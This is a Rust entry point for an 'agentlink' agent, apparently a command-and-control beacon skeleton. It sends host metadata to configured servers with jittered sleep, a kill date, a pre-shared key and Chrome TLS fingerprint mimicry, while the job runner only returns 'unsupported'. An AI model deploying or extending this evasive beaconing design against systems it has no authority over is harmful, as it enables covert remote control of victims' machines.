//! agentlink agent binary
//!
//! Usage: agentlink-agent [OPTIONS]
//!
//! Options:
//!   -c, --config <FILE>  Run an agent from a JSON options file
//!   --check <FILE>       Validate an options file and build the transport
//!   -h, --help           Print help information

use std::env;
use std::sync::Arc;

use agentlink::agent::{AgentConfig, Job, JobResult, JobRunner, JobStatus};
use agentlink::config::Options;
use agentlink::{Agent, AgentId};
use async_trait::async_trait;
use tokio_util::sync::CancellationToken;

/// Reports every job as unsupported; the job catalog lives elsewhere.
struct UnsupportedJobs;

#[async_trait]
impl JobRunner for UnsupportedJobs {
    async fn run(&self, job: Job, _cancel: CancellationToken) -> JobResult {
        tracing::info!(job = %job.id, kind = %job.kind, "no runner for job");
        JobResult::new(job.id, JobStatus::Unsupported, Vec::new())
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    // Initialize tracing; respects RUST_LOG (e.g. RUST_LOG=agentlink=debug)
    tracing_subscriber::fmt()
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new("info")),
        )
        .with_target(false)
        .init();

    let args: Vec<String> = env::args().collect();

    if args.len() < 2 {
        print_usage();
        return Ok(());
    }

    match args[1].as_str() {
        "-h" | "--help" => {
            print_usage();
        }
        "--check" => {
            if args.len() < 3 {
                eprintln!("Error: --check requires a file path");
                return Ok(());
            }
            check_options(&args[2])?;
        }
        "-c" | "--config" => {
            if args.len() < 3 {
                eprintln!("Error: --config requires a file path");
                return Ok(());
            }
            run_agent(&args[2]).await?;
        }
        _ => {
            eprintln!("Unknown option: {}", args[1]);
            print_usage();
        }
    }

    Ok(())
}

fn print_usage() {
    println!(
        r#"agentlink agent

USAGE:
    agentlink-agent [OPTIONS]

OPTIONS:
    -c, --config <FILE>     Run an agent from a JSON options file
    --check <FILE>          Validate an options file and build the transport
    -h, --help              Print help information

EXAMPLE OPTIONS FILE:
    {{
        "URL": ["https://127.0.0.1:8443/"],
        "Protocol": "h2",
        "PSK": "change me",
        "Sleep": "30s",
        "Skew": 3,
        "MaxRetry": 7,
        "KillDate": 0,
        "Parrot": "HelloChrome_Auto"
    }}
"#
    );
}

fn check_options(path: &str) -> anyhow::Result<()> {
    let options = Options::load(path)?;
    let transport = options.transport()?;
    let schedule = options.schedule()?;

    println!("Options OK");
    println!("  Protocol:  {}", options.protocol);
    println!("  URLs:      {}", options.urls.join(", "));
    println!("  Sleep:     {}", humantime::format_duration(schedule.sleep));
    println!("  Skew:      {}%", schedule.skew);
    println!("  MaxRetry:  {}", schedule.max_retry);
    match schedule.kill_date {
        Some(date) => println!("  KillDate:  {date}"),
        None => println!("  KillDate:  none"),
    }
    if let Some(fingerprint) = transport.fingerprint() {
        println!("  JA3:       {}", fingerprint.ja3()?);
    }

    Ok(())
}

fn host_metadata() -> Vec<u8> {
    let host = env::var("HOSTNAME")
        .or_else(|_| env::var("COMPUTERNAME"))
        .unwrap_or_else(|_| "unknown".to_string());
    let metadata = serde_json::json!({
        "host": host,
        "os": env::consts::OS,
        "arch": env::consts::ARCH,
        "pid": std::process::id(),
    });
    serde_json::to_vec(&metadata).unwrap_or_default()
}

async fn run_agent(path: &str) -> anyhow::Result<()> {
    let options = Options::load(path)?;
    let transport = Arc::new(options.transport()?);
    let config = AgentConfig {
        metadata: host_metadata(),
        ..options.agent_config()?
    };

    let id = AgentId::new();
    tracing::info!(agent = %id, protocol = %options.protocol, "starting agent");

    let mut agent = Agent::new(id, config, transport)?;
    let workers = agent.spawn_workers(Arc::new(UnsupportedJobs));

    let token = agent.cancellation_token();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            tracing::info!("interrupt received, stopping");
            token.cancel();
        }
    });

    let cause = agent.run().await;
    if let Some(workers) = workers {
        let _ = workers.await;
    }

    tracing::info!(agent = %id, %cause, "agent stopped");
    Ok(())
}
